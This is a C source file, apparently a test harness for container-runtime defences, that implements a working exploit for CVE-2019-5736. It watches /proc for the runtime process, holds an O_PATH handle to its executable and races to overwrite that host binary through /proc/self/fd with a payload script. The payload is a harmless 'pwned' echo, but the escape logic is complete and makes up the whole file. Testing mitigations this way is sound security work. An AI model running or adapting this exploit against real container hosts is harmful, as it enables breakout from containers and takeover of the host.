/* CVE-2019-5736 attacker, built static and run inside a container (or on
 * the host against an undefended copy, to show the attack works here).
 *
 *   overwrite_exe MATCH FIFO [TIMEOUT_S]
 *	Wait for a process whose command line contains MATCH, keep an O_PATH fd
 *	to that exe, let the process go on (it is blocked opening FIFO for
 *	writing: we open it for reading), wait for it to exit, then reopen
 *	/proc/self/fd/N for O_WRONLY|O_TRUNC and write a payload.
 *	Prints "found PID LINK", then "OVERWRITTEN" (exit 0) or
 *	"FAILED <reason>" (exit 1); "NOTARGET" (exit 2) if none appeared.
 *
 *   overwrite_exe --race MATCH STOPFILE OUTFILE
 *	Until STOPFILE exists, scan /proc as fast as possible for processes
 *	whose command line contains MATCH (the runtime before its execve, during
 *	`exec`) and keep an O_PATH fd to every one it can open; count those
 *	it sees but may not read (EACCES).  Then try to write through every
 *	fd kept, and write "seen=N denied=N opened=N overwritten=N" to
 *	OUTFILE. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

/* Does /proc/PID/cmdline (its NULs read as spaces) contain match? */
static int cmdline_has(long pid, const char *match)
{
	char p[64], buf[4096];
	snprintf(p, sizeof(p), "/proc/%ld/cmdline", pid);
	FILE *f = fopen(p, "re");
	if (!f)
		return 0;
	size_t n = fread(buf, 1, sizeof(buf) - 1, f);
	fclose(f);
	for (size_t i = 0; i < n; i++)
		if (buf[i] == '\0')
			buf[i] = ' ';
	buf[n] = '\0';
	return strstr(buf, match) != NULL;
}

static const char payload[] = "#!/bin/sh\necho pwned by CVE-2019-5736\n";

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* try to overwrite the file behind O_PATH fd; 0 on success, else errno */
static int try_write(int fd)
{
	char p[64];
	snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
	int w = open(p, O_WRONLY | O_TRUNC);
	if (w < 0) {
		int e = errno;
		/* without O_TRUNC, in case only shrinking is refused */
		w = open(p, O_WRONLY);
		if (w < 0)
			return e;
	}
	ssize_t n = write(w, payload, sizeof(payload) - 1);
	int e = errno;
	close(w);
	return n == (ssize_t)(sizeof(payload) - 1) ? 0 : (e ? e : EIO);
}

static int scan(const char *match, pid_t *pids, int *fds, int max, int *n_fds, long *seen,
		long *denied)
{
	DIR *d = opendir("/proc");
	if (!d)
		return -1;
	struct dirent *e;
	pid_t self = getpid();
	while ((e = readdir(d))) {
		char *end;
		long pid = strtol(e->d_name, &end, 10);
		if (*end || pid <= 0 || pid == self)
			continue;
		int known = 0;
		for (int i = 0; i < *n_fds; i++)
			if (pids[i] == pid)
				known = 1;
		if (known)
			continue;
		char p[64], link[4096];
		/* the runtime is known by its command line: its exe link names
		 * whatever husk re-executed from (a read-only clone shows "/",
		 * a memfd "/memfd:husk") */
		if (!cmdline_has(pid, match))
			continue;
		snprintf(p, sizeof(p), "/proc/%ld/exe", pid);
		ssize_t l = readlink(p, link, sizeof(link) - 1);
		if (l < 0) {
			if (errno == EACCES || errno == EPERM)
				(*denied)++;
			continue;
		}
		link[l] = '\0';
		(*seen)++;
		int fd = open(p, O_PATH | O_CLOEXEC);
		if (fd < 0) {
			(*denied)++;
			continue;
		}
		/* still the runtime after the open?  If it exec'd meanwhile,
		 * the fd is the container's own program: not a target */
		if (!cmdline_has(pid, match)) {
			close(fd);
			continue;
		}
		if (*n_fds < max) {
			pids[*n_fds] = (pid_t)pid;
			fds[(*n_fds)++] = fd;
			printf("found %ld %s\n", pid, link);
			fflush(stdout);
		} else {
			close(fd);
		}
	}
	closedir(d);
	return 0;
}

static int race(const char *match, const char *stopfile, const char *outfile)
{
	pid_t pids[256];
	int fds[256], n = 0;
	long seen = 0, denied = 0, overwritten = 0;
	while (access(stopfile, F_OK) != 0)
		scan(match, pids, fds, 256, &n, &seen, &denied);
	for (int i = 0; i < n; i++) {
		int e = 0;
		double t0 = now();
		/* the process may still run the file (ETXTBSY) for a moment */
		while ((e = try_write(fds[i])) == ETXTBSY && now() - t0 < 3)
			usleep(10000);
		if (e == 0)
			overwritten++;
		else
			printf("write through pid %d: %s\n", (int)pids[i], strerror(e));
	}
	FILE *f = fopen(outfile, "w");
	if (!f)
		return 1;
	fprintf(f, "seen=%ld denied=%ld opened=%d overwritten=%ld\n", seen, denied, n, overwritten);
	fclose(f);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 5 && strcmp(argv[1], "--race") == 0)
		return race(argv[2], argv[3], argv[4]);
	if (argc < 3) {
		fprintf(stderr, "usage: %s MATCH FIFO [TIMEOUT_S]\n", argv[0]);
		return 64;
	}
	const char *match = argv[1], *fifo = argv[2];
	double timeout = argc > 3 ? atof(argv[3]) : 20;
	pid_t pids[1];
	int fds[1], n = 0;
	long seen = 0, denied = 0;
	double t0 = now();
	while (n == 0) {
		scan(match, pids, fds, 1, &n, &seen, &denied);
		if (n == 0) {
			if (now() - t0 > timeout) {
				printf("NOTARGET denied=%ld\n", denied);
				return 2;
			}
			usleep(1000);
		}
	}
	/* release the target: it blocks opening FIFO for writing */
	int ff = open(fifo, O_RDONLY | O_NONBLOCK);
	if (ff < 0) {
		printf("FAILED open fifo: %s\n", strerror(errno));
		return 1;
	}
	char proc[64];
	snprintf(proc, sizeof(proc), "/proc/%d", (int)pids[0]);
	t0 = now();
	int last = 0;
	while (now() - t0 < timeout) {
		char buf[512];
		while (read(ff, buf, sizeof(buf)) > 0)
			;
		last = try_write(fds[0]);
		if (last == 0) {
			printf("OVERWRITTEN\n");
			return 0;
		}
		usleep(5000);
	}
	printf("FAILED %s (target %s)\n", strerror(last),
	       access(proc, F_OK) == 0 ? "still there" : "gone");
	return 1;
}
